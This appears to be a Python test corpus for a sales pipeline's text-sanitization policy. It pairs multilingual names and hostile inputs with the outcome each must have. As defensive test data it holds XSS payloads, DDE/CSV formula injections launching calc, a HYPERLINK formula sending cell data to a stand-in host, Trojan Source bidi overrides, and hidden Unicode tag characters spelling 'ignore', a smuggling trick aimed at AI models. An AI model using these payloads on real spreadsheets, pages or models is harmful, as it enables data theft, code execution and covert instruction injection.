"""A corpus of hostile and hard input, each case with what the text policy must do with it.

Every class of hostility the policy answers (:mod:`sales_pipeline.domain.text`) has named cases,
and so do real names from many scripts, which must come out exactly as they went in (after NFC).
``test_text.py`` runs each case through the policy; :func:`hubspot_contacts` turns the corpus into
HubSpot contacts for an end-to-end run against the sandbox.

Raw values are written with escapes wherever a character is invisible, so that what a case holds
can be read here.
"""

# Real names in other scripts hold letters that look like Latin ones; that is their point.
# ruff: noqa: RUF001

from __future__ import annotations

import unicodedata
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from enum import StrEnum

from sales_pipeline.domain.text import FIELDS, MAX_LENGTHS, Kind, TextField


class Hostility(StrEnum):
    """What makes a case hard."""

    NONE = "real name"
    LONE_SURROGATE = "lone surrogate"
    CONTROL = "control character"
    BIDI = "bidi control"
    INVISIBLE = "invisible format character"
    MARKUP = "markup"
    OVERLONG = "overlong"
    FORMULA = "spreadsheet formula"
    PLACEHOLDER = "placeholder"
    WRONG_KIND = "not of the field's kind"
    EMAIL = "unacceptable email"


class Outcome(StrEnum):
    """What must happen to a case's value."""

    KEPT = "kept as"
    """The value comes out unchanged (after NFC)."""
    CLEANED = "cleaned to"
    """The value comes out changed, as ``expected``."""
    NEUTRALIZED = "neutralized to"
    """The value comes out prefixed with a single quote, as ``expected``."""
    DROPPED = "dropped"
    """Nothing acceptable is left: the field becomes empty (None)."""
    QUARANTINED = "quarantined with reason"
    """The contact is quarantined; ``expected`` is :func:`email_problem`'s reason."""


@dataclass(frozen=True)
class Case:
    """One hostile value, the field it sits in, and what must happen to it."""

    name: str
    hostility: Hostility
    field: TextField
    raw: str
    outcome: Outcome
    expected: str | None = None
    """The value that must come out, or the quarantine reason; None when dropped."""

    @property
    def expectation(self) -> str:
        """What must happen, in words: ``cleaned to 'John'``."""
        if self.outcome is Outcome.DROPPED:
            return self.outcome.value
        return f"{self.outcome.value} {self.expected!r}"


def _kept(name: str, field: TextField, raw: str) -> Case:
    """A real value that must come out as it went in (in NFC)."""
    return Case(name, Hostility.NONE, field, raw, Outcome.KEPT, unicodedata.normalize("NFC", raw))


REAL_NAMES = (
    _kept("arabic", TextField.FIRST_NAME, "عبد الله"),
    _kept("arabic_last_name", TextField.LAST_NAME, "الفارسي"),
    _kept("persian_with_zwnj", TextField.LAST_NAME, "علی\u200cزاده"),
    _kept("persian_verb_with_zwnj", TextField.JOB_TITLE, "می\u200cخواهم"),
    _kept("hindi", TextField.FIRST_NAME, "प्रिया"),
    _kept("devanagari_half_form_with_zwj", TextField.FIRST_NAME, "क्\u200dषमा"),
    _kept("devanagari_explicit_virama_with_zwnj", TextField.LAST_NAME, "क्\u200cष"),
    _kept("malayalam_chillu_with_zwj_at_word_end", TextField.FIRST_NAME, "അരുണ്\u200d"),
    _kept("malayalam_with_zwnj", TextField.LAST_NAME, "മല്\u200cലിക"),
    _kept("sinhala_with_zwj", TextField.COMPANY, "ශ්\u200dරී ලංකා"),
    _kept("tamil", TextField.FIRST_NAME, "முருகன்"),
    _kept("chinese", TextField.FIRST_NAME, "王小明"),
    _kept("japanese", TextField.LAST_NAME, "山田 太郎"),
    _kept("japanese_kana", TextField.FIRST_NAME, "さくら"),
    _kept("korean", TextField.FIRST_NAME, "김민준"),
    _kept("thai", TextField.FIRST_NAME, "สมชาย"),
    _kept("greek", TextField.LAST_NAME, "Παπαδόπουλος"),
    _kept("cyrillic", TextField.FIRST_NAME, "Дмитрий"),
    _kept("hebrew", TextField.LAST_NAME, "כהן"),
    _kept("vietnamese", TextField.LAST_NAME, "Nguyễn Thị Minh Khai"),
    _kept("amharic", TextField.FIRST_NAME, "አበበ"),
    _kept("georgian", TextField.FIRST_NAME, "გიორგი"),
    _kept("turkish", TextField.LAST_NAME, "Çağlar Şahin"),
    _kept("icelandic", TextField.FIRST_NAME, "Þórunn"),
    _kept("polish", TextField.FIRST_NAME, "Łukasz"),
    _kept("irish", TextField.LAST_NAME, "Ó Briain"),
    _kept("dutch_particle", TextField.LAST_NAME, "van der Berg"),
    _kept("hyphenated", TextField.FIRST_NAME, "Jean-Luc"),
    _kept("apostrophe", TextField.LAST_NAME, "O'Brien"),
    _kept("typographic_apostrophe", TextField.LAST_NAME, "D\u2019Angelo"),
    _kept("em_dash_title", TextField.JOB_TITLE, "CEO \u2014 Europe"),
    _kept("ampersand_company", TextField.COMPANY, "AT&T"),
    _kept("emoji_zwj_sequence", TextField.JOB_TITLE, "Engineer \U0001f469\u200d\U0001f4bb"),
    _kept("emoji_family", TextField.COMPANY, "\U0001f468\u200d\U0001f469\u200d\U0001f467 Kids"),
    _kept("emoji_skin_tone", TextField.JOB_TITLE, "Greeter \U0001f44b\U0001f3fd"),
    _kept("emoji_rainbow_flag", TextField.COMPANY, "Pride \U0001f3f3\ufe0f\u200d\U0001f308"),
    _kept("flags", TextField.COMPANY, "Acme \U0001f1eb\U0001f1f7\U0001f1e9\U0001f1ea"),
    _kept(
        "subdivision_flag",
        TextField.COMPANY,
        "Glasgow \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    ),
    _kept("phone_international", TextField.PHONE, "+33 6 12 34 56 78"),
    _kept("phone_us", TextField.PHONE, "+1 (555) 010-0100"),
    _kept("linkedin_url", TextField.LINKEDIN_URL, "https://www.linkedin.com/in/jean-luc"),
    _kept("website_with_query", TextField.WEBSITE, "https://acme.com/?a=1&notify=1"),
    _kept("bare_website", TextField.WEBSITE, "acme.com"),
    _kept("email", TextField.EMAIL, "jean-luc.o'brien+news@example.com"),
    Case(
        "vietnamese_decomposed",
        Hostility.NONE,
        TextField.LAST_NAME,
        "Nguye\u0302\u0303n",
        Outcome.CLEANED,
        "Nguyễn",
    ),
    Case(
        "domain_upper_case",
        Hostility.NONE,
        TextField.COMPANY_DOMAIN,
        "Acme.COM",
        Outcome.CLEANED,
        "acme.com",
    ),
    Case(
        "email_upper_case",
        Hostility.NONE,
        TextField.EMAIL,
        " Ann@Example.COM ",
        Outcome.CLEANED,
        "ann@example.com",
    ),
)
"""Names and values from many scripts: they must survive (the last ones only normalized)."""

_NAME_FIELDS = (
    TextField.FIRST_NAME,
    TextField.LAST_NAME,
    TextField.COMPANY,
    TextField.COMPANY_NAME,
    TextField.JOB_TITLE,
)
"""The fields holding a person's or a company's name (and the title beside them)."""

_TEXT_FIELDS = tuple(field for field, rule in FIELDS.items() if rule.kind is Kind.TEXT)


def _lone_surrogates() -> Iterator[Case]:
    """A lone high and a lone low surrogate in every name field."""
    for field in _NAME_FIELDS:
        yield Case(
            f"lone_high_surrogate_in_{field}",
            Hostility.LONE_SURROGATE,
            field,
            "Ann\ud800e",
            Outcome.CLEANED,
            "Anne",
        )
        yield Case(
            f"reversed_surrogate_pair_in_{field}",
            Hostility.LONE_SURROGATE,
            field,
            "\udc00\ud83dBob",
            Outcome.CLEANED,
            "Bob",
        )


def _case(name: str, hostility: Hostility, field: TextField, raw: str, expected: str) -> Case:
    """A case whose value must be cleaned to ``expected``."""
    return Case(name, hostility, field, raw, Outcome.CLEANED, expected)


CONTROLS = (
    _case("nul", Hostility.CONTROL, TextField.FIRST_NAME, "Jo\x00hn", "John"),
    _case("bell", Hostility.CONTROL, TextField.LAST_NAME, "Sm\x07ith", "Smith"),
    _case("delete", Hostility.CONTROL, TextField.COMPANY, "Acme\x7f Inc", "Acme Inc"),
    _case(
        "ansi_escape", Hostility.CONTROL, TextField.JOB_TITLE, "\x1b[31mCTO\x1b[0m", "[31mCTO[0m"
    ),
    _case("c1_csi", Hostility.CONTROL, TextField.CITY, "Par\x9bis", "Paris"),
    _case(
        "next_line_is_a_space",
        Hostility.CONTROL,
        TextField.COUNTRY,
        "New\x85Zealand",
        "New Zealand",
    ),
    _case(
        "newline_and_tab",
        Hostility.CONTROL,
        TextField.JOB_TITLE,
        "Head\n\tof Sales",
        "Head of Sales",
    ),
    _case("vertical_tab", Hostility.CONTROL, TextField.COMPANY, "Acme\x0bCorp", "Acme Corp"),
    _case(
        "line_separator",
        Hostility.CONTROL,
        TextField.JOB_TITLE,
        "VP\u2028Marketing",
        "VP Marketing",
    ),
    _case("no_break_spaces", Hostility.CONTROL, TextField.FIRST_NAME, "\u00a0Anne\u3000 ", "Anne"),
    _case(
        "control_in_variable",
        Hostility.CONTROL,
        TextField.LEMLIST_VARIABLE,
        "C\x01-level",
        "C-level",
    ),
)
"""C0 and C1 controls: removed, or a space where they separate words."""

BIDI = (
    _case(
        "trojan_source_rlo",
        Hostility.BIDI,
        TextField.JOB_TITLE,
        "admin\u202e\u2066 // check\u2069\u2066",
        "admin // check",
    ),
    _case("rlo_file_name", Hostility.BIDI, TextField.COMPANY, "\u202egpj.exe", "gpj.exe"),
    _case("lre_pdf", Hostility.BIDI, TextField.LAST_NAME, "\u202aSmith\u202c", "Smith"),
    _case("rle", Hostility.BIDI, TextField.FIRST_NAME, "\u202bAnne", "Anne"),
    _case("lro", Hostility.BIDI, TextField.FIRST_NAME, "\u202dAnne", "Anne"),
    _case(
        "isolates",
        Hostility.BIDI,
        TextField.COMPANY,
        "\u2067Acme\u2069 \u2068Corp\u2069",
        "Acme Corp",
    ),
    _case("lrm_rlm", Hostility.BIDI, TextField.LAST_NAME, "\u200eCohen\u200f", "Cohen"),
    _case("arabic_letter_mark", Hostility.BIDI, TextField.FIRST_NAME, "\u061cعلي", "علي"),
)
"""Bidi embeddings, overrides, isolates and marks: removed."""

INVISIBLES = (
    _case("zero_width_space", Hostility.INVISIBLE, TextField.FIRST_NAME, "Jo\u200bhn", "John"),
    _case("word_joiner", Hostility.INVISIBLE, TextField.LAST_NAME, "Sm\u2060ith", "Smith"),
    _case("bom", Hostility.INVISIBLE, TextField.COMPANY, "\ufeffAcme", "Acme"),
    _case("soft_hyphen", Hostility.INVISIBLE, TextField.JOB_TITLE, "Mar\u00adketing", "Marketing"),
    _case("mongolian_vowel_separator", Hostility.INVISIBLE, TextField.CITY, "Lyon\u180e", "Lyon"),
    _case(
        "zwj_between_words",
        Hostility.INVISIBLE,
        TextField.FIRST_NAME,
        "Ann \u200dMarie",
        "Ann Marie",
    ),
    _case("zwnj_at_end", Hostility.INVISIBLE, TextField.LAST_NAME, "Smith\u200c", "Smith"),
    _case("doubled_zwj", Hostility.INVISIBLE, TextField.FIRST_NAME, "An\u200d\u200dna", "Anna"),
    _case(
        "ascii_smuggling_tags",
        Hostility.INVISIBLE,
        TextField.COMPANY,
        "Acme\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
        "Acme",
    ),
    _case(
        "accent_after_zero_width",
        Hostility.INVISIBLE,
        TextField.LAST_NAME,
        "Rene\u200b\u0301",
        "René",
    ),
    _case("noncharacter", Hostility.INVISIBLE, TextField.COMPANY, "Acme\ufffe", "Acme"),
    Case(
        "hangul_filler_only", Hostility.INVISIBLE, TextField.FIRST_NAME, "\u3164", Outcome.DROPPED
    ),
    Case(
        "only_zero_width", Hostility.INVISIBLE, TextField.LAST_NAME, "\u200b\u200b", Outcome.DROPPED
    ),
)
"""Zero-width and other format characters outside words: removed."""

_DEEPLY_ENCODED_TAG = "&" + "amp;" * 12 + "lt;b&" + "amp;" * 12 + "gt;Bold"

MARKUP = (
    _case("bold_tag", Hostility.MARKUP, TextField.FIRST_NAME, "<b>Bob</b>", "Bob"),
    _case(
        "script_block", Hostility.MARKUP, TextField.LAST_NAME, "<script>alert(1)</script>Eve", "Eve"
    ),
    _case(
        "style_block",
        Hostility.MARKUP,
        TextField.COMPANY,
        "<style>*{display:none}</style>Acme",
        "Acme",
    ),
    _case("unclosed_script", Hostility.MARKUP, TextField.COMPANY, "Acme<script>alert(1)", "Acme"),
    _case(
        "encoded_script",
        Hostility.MARKUP,
        TextField.JOB_TITLE,
        "&lt;script&gt;alert(1)&lt;/script&gt;CTO",
        "CTO",
    ),
    _case(
        "double_encoded_script",
        Hostility.MARKUP,
        TextField.FIRST_NAME,
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;Eve",
        "Eve",
    ),
    _case(
        "numeric_entities_script",
        Hostility.MARKUP,
        TextField.LAST_NAME,
        "&#60;script&#x3e;alert(1)&#60;/script&#62;Eve",
        "Eve",
    ),
    _case(
        "nested_script_tags",
        Hostility.MARKUP,
        TextField.COMPANY,
        "<scr<script>x</script>ipt>alert(1)</script>Acme",
        "Acme",
    ),
    _case(
        "img_onerror",
        Hostility.MARKUP,
        TextField.FIRST_NAME,
        '<img src=x onerror="alert(1)">Zoe',
        "Zoe",
    ),
    _case("comment", Hostility.MARKUP, TextField.JOB_TITLE, "VP<!-- hidden -->Sales", "VPSales"),
    _case("stray_brackets", Hostility.MARKUP, TextField.JOB_TITLE, "a < b", "a b"),
    _case("encoded_bidi_override", Hostility.MARKUP, TextField.LAST_NAME, "&#x202e;Smith", "Smith"),
    _case("encoded_nul", Hostility.MARKUP, TextField.FIRST_NAME, "Jo&#0;hn", "Jo\ufffdhn"),
    Case(
        "entity_split_by_zero_width",
        Hostility.MARKUP,
        TextField.COMPANY,
        "&\u200blt;script&\u200bgt;alert(1)",
        Outcome.DROPPED,
    ),
    _case("encoded_ampersand", Hostility.MARKUP, TextField.COMPANY, "AT&amp;T", "AT&T"),
    _case(
        "deeply_encoded_tag",
        Hostility.MARKUP,
        TextField.JOB_TITLE,
        _DEEPLY_ENCODED_TAG,
        "amp;amp;lt;bamp;amp;gt;Bold",
    ),
)
"""Tags, scripts and entity-encoded markup: removed, content of scripts and styles included."""


def _overlong() -> Iterator[Case]:
    """A value past the limit of every field: free text is cut, the others are refused."""
    for field, rule in FIELDS.items():
        limit = MAX_LENGTHS[field]
        name = f"overlong_{field}"
        if rule.kind is Kind.TEXT:
            yield _case(name, Hostility.OVERLONG, TextField(field), "x" * (limit + 40), "x" * limit)
        elif rule.kind is Kind.EMAIL:
            raw = f"{'a' * 60}@{'b' * 60}.{'c' * 60}.{'d' * 60}.example.com"
            yield Case(
                name, Hostility.OVERLONG, TextField(field), raw, Outcome.QUARANTINED, "too_long"
            )
        else:
            yield Case(
                name,
                Hostility.OVERLONG,
                TextField(field),
                _overlong_value(rule.kind, limit),
                Outcome.DROPPED,
            )


def _overlong_value(kind: Kind, limit: int) -> str:
    """A value of ``kind`` longer than ``limit``."""
    if kind is Kind.PHONE:
        return "+33 " + "6" * limit
    if kind is Kind.DOMAIN:
        return ".".join(["a" * 60] * (limit // 61 + 1)) + ".com"
    host = "www.linkedin.com" if kind is Kind.LINKEDIN_URL else "acme.com"
    return f"https://{host}/{'a' * limit}"


OVERLONG_AT_BOUNDARIES = (
    _case(
        "emoji_sequence_at_limit",
        Hostility.OVERLONG,
        TextField.FIRST_NAME,
        "a" * 98 + "\U0001f469\u200d\U0001f4bb",
        "a" * 98,
    ),
    _case(
        "astral_character_at_limit",
        Hostility.OVERLONG,
        TextField.LAST_NAME,
        "a" * 99 + "\U0001f600",
        "a" * 99,
    ),
    _case(
        "accent_at_limit",
        Hostility.OVERLONG,
        TextField.FIRST_NAME,
        "a" * 99 + "e\u0301\u0323",
        "a" * 99,
    ),
    _case(
        "flag_at_limit",
        Hostility.OVERLONG,
        TextField.LAST_NAME,
        "a" * 97 + "\U0001f1eb\U0001f1f7",
        "a" * 97,
    ),
    _case(
        "zwnj_word_at_limit",
        Hostility.OVERLONG,
        TextField.LAST_NAME,
        "a" * 98 + " ی\u200cز",
        "a" * 98,
    ),
    _case("space_at_limit", Hostility.OVERLONG, TextField.FIRST_NAME, "a" * 99 + " bcd", "a" * 99),
)
"""Cuts that would split a character, a sequence or a flag, or leave a space or a joiner."""

_FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _formula_starts() -> Iterator[Case]:
    """A formula in every free-text field, the six starts in turn."""
    for index, field in enumerate(_TEXT_FIELDS):
        raw = _FORMULAS[index % len(_FORMULAS)]
        expected = "'" + raw.strip()
        limit = MAX_LENGTHS[field]
        if len(expected) > limit:
            expected = expected[:limit]
        yield Case(
            f"formula_in_{field}",
            Hostility.FORMULA,
            TextField(field),
            raw,
            Outcome.NEUTRALIZED,
            expected,
        )
    for field in (
        TextField.PHONE,
        TextField.WEBSITE,
        TextField.LINKEDIN_URL,
        TextField.COMPANY_DOMAIN,
    ):
        yield Case(f"formula_in_{field}", Hostility.FORMULA, field, "=1+1", Outcome.DROPPED)


FORMULA_LOOKALIKES = (
    Case(
        "company_starting_with_at",
        Hostility.FORMULA,
        TextField.COMPANY,
        "@Home Network",
        Outcome.NEUTRALIZED,
        "'@Home Network",
    ),
    Case(
        "name_starting_with_hyphen",
        Hostility.FORMULA,
        TextField.LAST_NAME,
        "-Smith",
        Outcome.NEUTRALIZED,
        "'-Smith",
    ),
    Case(
        "formula_after_spaces",
        Hostility.FORMULA,
        TextField.JOB_TITLE,
        "   =1+1",
        Outcome.NEUTRALIZED,
        "'=1+1",
    ),
    Case(
        "formula_after_invisible",
        Hostility.FORMULA,
        TextField.JOB_TITLE,
        "\u200b=1+1",
        Outcome.NEUTRALIZED,
        "'=1+1",
    ),
    Case(
        "encoded_formula",
        Hostility.FORMULA,
        TextField.COMPANY,
        "&#61;1+1",
        Outcome.NEUTRALIZED,
        "'=1+1",
    ),
    Case(
        "phone_that_is_a_formula",
        Hostility.FORMULA,
        TextField.PHONE,
        "+1+cmd|'/C calc'!A0",
        Outcome.DROPPED,
    ),
)
"""Values starting like a formula: free text is neutralized, a phone must be a phone."""

PLACEHOLDERS = tuple(
    Case(f"placeholder_{name}", Hostility.PLACEHOLDER, field, raw, Outcome.DROPPED)
    for name, field, raw in (
        ("hyphen", TextField.LAST_NAME, "-"),
        ("dot", TextField.FIRST_NAME, "."),
        ("equals", TextField.COMPANY, "="),
        ("at", TextField.JOB_TITLE, "@"),
        ("dashes", TextField.COMPANY, "- - -"),
        ("empty_markup", TextField.FIRST_NAME, "<b></b>"),
        ("blank", TextField.LAST_NAME, "   "),
    )
)
"""Values with no letter, digit or emoji: they mean "unknown" and become None."""

WRONG_KIND = tuple(
    Case(name, Hostility.WRONG_KIND, field, raw, Outcome.DROPPED)
    for name, field, raw in (
        ("phone_words", TextField.PHONE, "call reception"),
        ("phone_too_few_digits", TextField.PHONE, "+1 (23)"),
        ("linkedin_elsewhere", TextField.LINKEDIN_URL, "https://evil.example/in/x"),
        ("linkedin_javascript", TextField.LINKEDIN_URL, "javascript:alert(1)//linkedin.com"),
        ("linkedin_userinfo", TextField.LINKEDIN_URL, "https://linkedin.com@evil.example/"),
        ("website_with_markup", TextField.WEBSITE, "https://acme.com/<script>"),
        ("domain_with_path", TextField.COMPANY_DOMAIN, "acme.com/about"),
    )
)
"""Values of a field with a shape (phone, URL, domain) that do not have it: dropped."""


def _email(name: str, raw: str, reason: str) -> Case:
    """An email that quarantines its contact with ``reason``."""
    return Case(name, Hostility.EMAIL, TextField.EMAIL, raw, Outcome.QUARANTINED, reason)


EMAILS = (
    _email("email_formula_equals", "=cmd@example.com", "formula_start"),
    _email("email_formula_plus", "+1@example.com", "formula_start"),
    _email("email_formula_minus", "-sum@example.com", "formula_start"),
    _email("email_formula_at", "@x@example.com", "formula_start"),
    _email("email_formula_tab", "\t=cmd@example.com", "formula_start"),
    _email("email_formula_cr", "\r=cmd@example.com", "formula_start"),
    _email("email_nul", "an\x00n@example.com", "control_characters"),
    _email("email_inner_newline", "ann@example.com\nbcc@example.com", "control_characters"),
    _email("email_zero_width", "ann\u200b@example.com", "control_characters"),
    _email("email_bidi", "ann\u202e@example.com", "control_characters"),
    _email("email_lone_surrogate", "ann\ud800@example.com", "control_characters"),
    _email("email_line_separator", "ann@example.com\u2028", "control_characters"),
    _email("email_local_part_too_long", "a" * 65 + "@example.com", "local_part_too_long"),
    _email("email_two_ats", "ann@@example.com", "not_an_email_address"),
    _email("email_no_domain_dot", "ann@localhost", "not_an_email_address"),
    _email("email_non_ascii", "jöse@example.com", "not_an_email_address"),
    _email("email_markup", "<b>ann</b>@example.com", "not_an_email_address"),
    _email("email_missing", "   ", "missing"),
)
"""Addresses that quarantine their contact, with the reason :func:`email_problem` gives."""

CORPUS: Sequence[Case] = (
    *REAL_NAMES,
    *_lone_surrogates(),
    *CONTROLS,
    *BIDI,
    *INVISIBLES,
    *MARKUP,
    *_overlong(),
    *OVERLONG_AT_BOUNDARIES,
    *_formula_starts(),
    *FORMULA_LOOKALIKES,
    *PLACEHOLDERS,
    *WRONG_KIND,
    *EMAILS,
)
"""Every case; names are unique."""


# HubSpot ---------------------------------------------------------------------------------------

HUBSPOT_PROPERTIES: Mapping[TextField, str] = {
    TextField.EMAIL: "email",
    TextField.FIRST_NAME: "firstname",
    TextField.LAST_NAME: "lastname",
    TextField.COMPANY: "company",
    TextField.COMPANY_NAME: "company",
    TextField.JOB_TITLE: "jobtitle",
    TextField.PHONE: "phone",
    TextField.CITY: "city",
    TextField.COUNTRY: "country",
    TextField.WEBSITE: "website",
    TextField.INDUSTRY: "industry",
}
"""The HubSpot contact property holding each field (fields missing here come from Explorium)."""


def hubspot_contacts(
    cases: Sequence[Case] = CORPUS, domain: str = "corpus.example.com"
) -> list[tuple[Case, dict[str, str]]]:
    """The cases HubSpot can hold, each as the properties of a contact to create.

    Each contact is otherwise complete and valid (names, company, title, a unique address
    ``hostile-<n>@<domain>``), so its fate depends on the hostile value alone; a case of the
    email field brings its own address. Cases of fields HubSpot has no property for are left
    out.
    """
    contacts = []
    for number, case in enumerate(cases):
        name = HUBSPOT_PROPERTIES.get(case.field)
        if name is None:
            continue
        properties = {
            "email": f"hostile-{number:03d}@{domain}",
            "firstname": "Corpus",
            "lastname": f"Case {number:03d}",
            "company": "Corpus Testing",
            "jobtitle": "Head of Testing",
            name: case.raw,
        }
        contacts.append((case, properties))
    return contacts
